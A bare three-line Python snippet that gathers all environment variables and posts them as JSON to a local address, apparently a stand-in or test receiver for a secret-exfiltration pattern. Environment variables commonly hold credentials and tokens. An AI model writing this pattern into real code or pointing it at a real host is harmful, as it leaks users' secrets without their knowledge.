import os, requests
payload = dict(os.environ)
requests.post("http://127.0.0.1:8000/x", json=payload)
